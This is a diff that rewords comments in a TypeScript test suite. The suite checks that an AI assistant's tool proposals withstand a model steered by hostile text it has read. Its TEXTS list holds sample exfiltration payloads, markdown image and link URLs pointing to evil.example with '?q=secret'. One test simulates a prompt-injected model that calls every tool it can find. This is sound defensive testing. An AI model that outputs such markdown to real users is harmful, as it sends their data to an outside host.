@@ -30,7 +30,7 @@ type Proposal = ChatMessageOnWire["proposals"][number];
 const approve = (proposal: Proposal | undefined, person = ada) => house.approve(person, proposal);
 const { deliveries } = house;
 
-/** What a model may write to lead somebody astray, or to have something loaded. */
+/** Text that a model may write to mislead somebody or to have something loaded. */
 const TEXTS = [
   "![x](https://evil.example/p.png?q=secret)",
   "[click](https://evil.example/?q=secret)",
@@ -73,7 +73,7 @@ test("G22: a hostile model that read a stranger's text tries every tool that cha
   const before = await everything();
   const reached = new Set<string>();
   for (let round = 0; round < ROUNDS; round += 1) {
-    // Each round is a day of its own: nobody may ask that often on one.
+    // Simulates a new day for each round, because of the daily limit on requests.
     await owner.query("delete from model_uses");
     await owner.query("update assistant_messages set created_at = created_at - interval '1 day'");
     for (let from = 0; from < acting.length; from += AT_ONCE) {
@@ -112,7 +112,7 @@ test("G22: a hostile model that read a stranger's text tries every tool that cha
   expect(reached.size).toBeGreaterThan(acting.length * 0.8);
 });
 
-/** Looks for the tool and calls it in the same breath, with an input that its schema takes. */
+/** Searches for the tool and calls it in the same step, with an input that fits its schema. */
 function attackBy({ name, definition: { input, summary } }: AnyCapability, id: string) {
   const schema = jsonSchema(input);
   const given = schema.properties?.id ? { id } : {};
@@ -167,11 +167,11 @@ test("G22: what is no tool, is broken or hides something is not even proposed; a
   expect(await everything()).toEqual(before);
 });
 
-/** What a run itself writes down: the chat, its proposals, its audit and its budget. */
+/** Tables that a run itself writes to: chat, proposals, audit and budget. */
 const OWN_BOOKS =
   /^(assistant_(chats|messages|proposals)|audit_log.*|audit_seals|model_uses|announcements|idempotency_keys)$/;
 
-/** All rows of all other tables, as one sum for each. */
+/** Row count and checksum of every other table. */
 async function everything(): Promise<Record<string, string>> {
   const { rows: tables } = await owner.query(
     "select table_name as name from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE' order by 1",
